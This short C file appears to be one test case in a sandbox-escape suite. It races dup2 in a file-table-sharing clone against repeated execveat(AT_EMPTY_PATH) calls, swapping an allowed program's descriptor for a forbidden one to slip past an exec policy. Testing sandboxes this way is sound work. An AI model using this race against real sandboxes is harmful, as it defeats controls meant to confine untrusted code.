// escape: the program's descriptor that execveat is given (AT_EMPTY_PATH) is exchanged by dup2
// group: path races
// policy: exec
// attempts: 1500
#include "escape.h"

enum { kNumber = 100 };

static void attack(void) {
  const int programs[] = {open(GOOD, O_RDONLY), open(forbidden(), O_RDONLY)};
  dup2(programs[0], kNumber);
  if (syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0) == 0) {
    unsigned seed = 1;
    for (int i = 0;; i = !i) {
      dup2(programs[i], kNumber);
      moment(&seed);
    }
  }
  while (more()) {
    const long child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) {
      run_at(kNumber, "", AT_EMPTY_PATH);
      _exit(1);
    }
    waitpid((pid_t)child, NULL, 0);
  }
}
